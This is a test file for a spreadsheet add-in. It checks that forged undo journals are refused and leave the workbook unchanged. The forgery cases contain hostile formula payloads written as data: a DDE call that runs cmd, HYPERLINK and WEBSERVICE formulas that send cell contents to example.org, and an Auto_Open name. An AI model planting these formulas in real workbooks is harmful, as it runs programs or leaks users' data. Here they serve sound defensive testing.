/**
 * Forged journals, on both hosts: a journal written by hand, or edited, or copied from another
 * workbook, that would delete the user's sheet, write a DDE call or a link, restore cells its plan
 * never wrote, take a name like Auto_Open, or set absurd counts and widths. Each is refused with a
 * message before anything is changed: revert, apply and the read all leave the workbook exactly as
 * it was, and the read shows the cells as they are (no forged before-image).
 */
import ExcelJS from 'exceljs';
import { JournalError, JOURNAL_SHEET, sealJournal, type Journal } from '../../../src/core/plan/journal';
import { applyWithHost, checkWithHost } from '../../../src/hosts/workflow';
import { XlsxWorkbookHost } from '../../../src/hosts/xlsx/workbook-host';
import { sheetChunks } from '../../../src/hosts/xlsx/own-sheets';
import { fixture, HARNESSES, reload } from './harness';

const TODAY = '2018-07-15';
const zh = { lang: 'zh-CN' as const, asOf: TODAY, today: TODAY };

type Raw = Record<string, unknown> & Journal;

/** Replaces the workbook's journal with the given text (as JSON), in chunks as a host writes them. */
function putJournal(wb: ExcelJS.Workbook, raw: unknown): void {
  const old = wb.getWorksheet(JOURNAL_SHEET);
  if (old) wb.removeWorksheet(old.id);
  const ws = wb.addWorksheet(JOURNAL_SHEET, { state: 'veryHidden' });
  const text = JSON.stringify(raw);
  for (let i = 0, r = 1; i < text.length; i += 30000, r++) ws.getCell(r, 1).value = text.slice(i, i + 30000);
}

const journalOf = (wb: ExcelJS.Workbook): Raw => JSON.parse((sheetChunks(wb, JOURNAL_SHEET) ?? []).join('')) as Raw;

/** Resealed, as a forger who knows the format would: the digest then holds. */
const reseal = (j: Raw): Journal => {
  const { digest: _d, ...rest } = j;
  return sealJournal(rest as Parameters<typeof sealJournal>[0]);
};

interface Forgery {
  name: string;
  /** The journal to put into seed-000 after an honest apply. */
  forge(honest: Raw, wb: ExcelJS.Workbook): Promise<unknown> | unknown;
  /** What the message says (English). */
  says: RegExp;
}

const firstRecorded = (j: Raw) => j.cells[0] as Journal['cells'][number];
const withBefore = (j: Raw, value: unknown): Journal => {
  const cells = j.cells.map((c, i) => (i === 0 ? { ...c, before: { ...c.before, value } } : c));
  return reseal({ ...j, cells } as Raw);
};

const FORGERIES: Forgery[] = [
  {
    name: 'written by hand, as in the report: version 1, no digest, the user’s sheet to delete',
    forge: () => ({ version: 1, plan: { version: 1, edits: [] }, cells: [], widths: [], validations: [], highlights: [], names: [], sheetsAdded: ['Sheet1'] }),
    says: /no digest/,
  },
  { name: 'damaged text', forge: (j) => JSON.stringify(j).slice(0, 500), says: /not complete JSON|does not follow/ },
  { name: 'from a future version', forge: (j) => ({ ...j, version: 3 }), says: /newer resptable \(journal version 3/ },
  { name: 'edited without its digest: a before-image changed', forge: (j) => ({ ...j, cells: [{ ...firstRecorded(j), before: { value: '改过', style: {} } }, ...j.cells.slice(1)] }), says: /digest does not match/ },
  {
    name: 'resealed: the user’s sheet among the sheets added',
    forge: (j) => {
      // Nothing else recorded on Sheet1, so that only the sheet's mark stands in the way.
      const off = <T extends { sheet: string }>(xs: T[]) => xs.filter((x) => x.sheet !== 'Sheet1');
      const edits = [{ kind: 'sheet' as const, sheet: 'Sheet1' }, ...j.plan.edits.filter((e) => !('sheet' in e) || e.sheet !== 'Sheet1')];
      return reseal({ ...j, plan: { ...j.plan, edits }, cells: off(j.cells), widths: off(j.widths), validations: off(j.validations), highlights: off(j.highlights), sheetsAdded: [...j.sheetsAdded, 'Sheet1'] } as Raw);
    },
    says: /delete sheet "Sheet1", which does not carry the add-in's mark/,
  },
  {
    name: 'resealed: a sheet to delete that its plan did not add',
    forge: (j) => reseal({ ...j, sheetsAdded: [...j.sheetsAdded, 'Sheet1'] } as Raw),
    says: /delete sheet "Sheet1", which its own plan did not add/,
  },
  {
    name: 'resealed: a cell outside what the plan wrote',
    forge: (j) => reseal({ ...j, cells: [...j.cells, { sheet: 'Sheet1', cell: 'B5', before: { value: '伪造', style: {} } }] } as Raw),
    says: /restore Sheet1!B5, where its own plan never wrote/,
  },
  {
    name: 'resealed: a plan that says it wrote the user’s own text, so that revert would replace it',
    forge: (j, wb) => {
      const found = wb.getWorksheet('Sheet1')!.getCell('C5').value as string;
      const edits = [...j.plan.edits, { kind: 'cell' as const, sheet: 'Sheet1', cell: 'C5', value: found }];
      return reseal({ ...j, plan: { ...j.plan, edits }, cells: [...j.cells, { sheet: 'Sheet1', cell: 'C5', before: { value: '伪造', style: {} } }] } as Raw);
    },
    says: /wrote ".*" into Sheet1!C5, which the add-in never writes/,
  },
  { name: 'resealed: a DDE call to put back', forge: (j) => withBefore(j, { formula: "cmd|' /C calc'!A0" }), says: /calls a program, file or address outside the workbook \(cmd\|/ },
  { name: 'resealed: a HYPERLINK that leaks data', forge: (j) => withBefore(j, { formula: 'HYPERLINK("https://example.org/?"&Sheet1!C5,"点击")' }), says: /outside the workbook \(HYPERLINK\(/ },
  { name: 'resealed: WEBSERVICE behind _xlfn.', forge: (j) => withBefore(j, { formula: '_xlfn.WEBSERVICE("https://example.org/"&C5)' }), says: /outside the workbook \(_xlfn\.WEBSERVICE\(/ },
  { name: 'resealed: a reference into another workbook', forge: (j) => withBefore(j, { formula: '[1]Sheet1!$A$1*2' }), says: /outside the workbook \(\[1\]/ },
  { name: 'resealed: a path to another file', forge: (j) => withBefore(j, { formula: "'C:\\secret\\[pay.xlsx]Sheet1'!A1" }), says: /outside the workbook/ },
  { name: 'resealed: a hyperlink value', forge: (j) => withBefore(j, { text: '链接', hyperlink: 'https://example.org' }), says: /does not follow its format \(at cells\.0\.before\.value\)/ },
  {
    name: 'resealed: a name like Auto_Open',
    forge: (j) => reseal({ ...j, plan: { ...j.plan, edits: [...j.plan.edits, { kind: 'name', name: 'Auto_Open', sheet: j.sheetsAdded[0]!, cell: '$A$1' }] } } as Raw),
    says: /change the name "Auto_Open"/,
  },
  {
    name: 'resealed: a name to put back that points outside',
    forge: (j) => reseal({ ...j, names: [{ name: 'resptable_asof', before: ['[1]Sheet1!$A$1'] }, ...j.names.slice(1)] } as Raw),
    says: /does not follow its format \(at names\.0\.before\.0\)/,
  },
  { name: 'resealed: a width of 1e308', forge: (j) => reseal({ ...j, widths: [{ ...j.widths[0]!, before: 1e308 }] } as Raw), says: /does not follow its format \(at widths\.0\.before\)/ },
  {
    name: 'resealed: 200,000 cells to fill',
    forge: (j) =>
      reseal({ ...j, cells: [...j.cells, ...Array.from({ length: 200_000 }, (_, i) => ({ sheet: 'Sheet1', cell: `Z${i + 1}`, before: { value: 'x', style: {} } }))] } as Raw),
    says: /restore Sheet1!Z1, where its own plan never wrote/,
  },
  {
    name: 'resealed: more cells than any plan writes',
    forge: (j) => ({ ...j, cells: Array.from({ length: 400_001 }, () => firstRecorded(j)) }),
    says: /holds 400001 entries of cells, more than the 400000 allowed/,
  },
  {
    name: 'copied from another workbook',
    forge: async () => {
      const other = await fixture('seeds/seed-003.xlsx');
      await applyWithHost(new XlsxWorkbookHost(other, 'seed-003.xlsx'), zh);
      const j = journalOf(other);
      const sheet = other.worksheets[0]!.name;
      // Its sheet names made to fit this workbook, as a forger would.
      return reseal(JSON.parse(JSON.stringify(j).split(`"${sheet}"`).join('"Sheet1"')) as Raw);
    },
    says: /does not match this workbook|does not carry the add-in's mark/,
  },
];

describe.each(HARNESSES)('$name host', (harness) => {
  describe.each(FORGERIES)('a forged journal: $name', ({ forge, says }) => {
    let forged: ExcelJS.Workbook;
    beforeAll(async () => {
      const wb = await fixture('seeds/seed-000.xlsx');
      await applyWithHost(new XlsxWorkbookHost(wb, 'seed-000.xlsx'), zh);
      putJournal(wb, await forge(journalOf(wb), wb));
      forged = await reload(wb);
    // Generous: the 200,000-cell forgery takes most of a minute to write and reload on a loaded 2-core box.
    }, 300_000);

    it('is refused by revert and by apply with a message, and nothing is changed', async () => {
      const s = harness.open(await reload(forged), 'forged.xlsx');
      const before = await s.exact();
      const refused = await s.host.revert().then(
        () => null,
        (e: unknown) => e,
      );
      expect(refused).toBeInstanceOf(JournalError);
      expect((refused as JournalError).message).toMatch(says);
      expect((refused as JournalError).message).toMatch(/Nothing was changed\.$/);
      expect((refused as JournalError).format('zh-CN')).toMatch(/工作簿未作任何改动。$/);
      expect(await s.exact()).toEqual(before);
      await expect(applyWithHost(s.host, zh)).rejects.toBeInstanceOf(JournalError);
      expect(await s.exact()).toEqual(before);
    });

    it('is ignored by the read: the cells show as they are', async () => {
      const s = harness.open(await reload(forged), 'forged.xlsx');
      const grids = await s.host.read();
      const sheet1 = grids.find((g) => g.name === 'Sheet1')!;
      // The score header the honest apply wrote is there: no before-image hides it.
      expect(sheet1.rows[1]?.[12]?.value).toEqual({ kind: 'string', value: '任务得分（自动）' });
      expect(sheet1.rows[4]?.[2]).toEqual(s.stored().find((g) => g.name === 'Sheet1')!.rows[4]?.[2]);
      await checkWithHost(s.host, zh);
    });
  });
});
